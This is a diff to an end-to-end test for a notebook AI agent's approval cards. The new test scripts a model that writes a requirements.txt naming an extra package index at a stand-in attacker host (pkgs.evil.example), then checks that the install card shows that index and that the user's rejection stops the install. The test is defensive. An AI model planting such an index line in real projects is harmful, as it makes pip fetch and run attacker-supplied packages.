@@ -3,7 +3,9 @@
  * it: write_file replacing a text file asks with a diff, Replace writes it,
  * and Undo on its card puts the file back; insert_cell with run: true asks
  * once, "Insert and run this cell?", showing the code once, and its output
- * lands in the new cell.
+ * lands in the new cell. A requirements file the agent writes (no question:
+ * pip reads it only when named) shows its index on the card of the install
+ * that reads it.
  */
 import { expect, test } from './shared-page';
 import { received, script } from './scripted-model';
@@ -97,4 +99,57 @@ test('write_file shows a diff, Replace writes, Undo restores; insert_cell run: t
     `Restored ${file} as it was before the agent replaced it.`
   );
   expect(await text()).toBe('alpha\nbeta\ngamma\n');
+});
+
+test('the card of an install shows the index its requirements file names', async ({
+  page,
+  request,
+  tmpPath
+}) => {
+  await page.notebook.createNew('install-card.ipynb');
+  await script(request, [
+    {
+      tool_calls: [
+        {
+          name: 'write_file',
+          arguments: {
+            path: `${tmpPath}/requirements.txt`,
+            content:
+              '--extra-index-url https://pkgs.evil.example/simple\nrequests\n'
+          }
+        }
+      ]
+    },
+    {
+      tool_calls: [
+        {
+          name: 'insert_cell',
+          arguments: { source: '%pip install -r requirements.txt', run: true }
+        }
+      ]
+    },
+    { content: 'Not installed.' }
+  ]);
+  await ask(page, 'Install what the project needs');
+  const card = page
+    .locator(`#${SIDEBAR}`)
+    .getByRole('group', { name: 'Approval needed' });
+  await expect(card).toContainText('Insert and run this cell?', {
+    timeout: 30000
+  });
+  // The file was created with no question (an edit); its index shows here.
+  const sources = card.getByRole('note', {
+    name: 'Where this install fetches from'
+  });
+  await expect(sources).toContainText(
+    'requirements.txt: --extra-index-url https://pkgs.evil.example/simple'
+  );
+  await card.getByRole('button', { name: 'Reject' }).click();
+  await card
+    .getByRole('textbox', { name: 'Reason for rejecting' })
+    .fill('not that index');
+  await card.getByRole('button', { name: 'Send rejection' }).click();
+  await finished(page);
+  // Nothing inserted, nothing installed.
+  expect(await page.notebook.getCellCount()).toBe(1);
 });
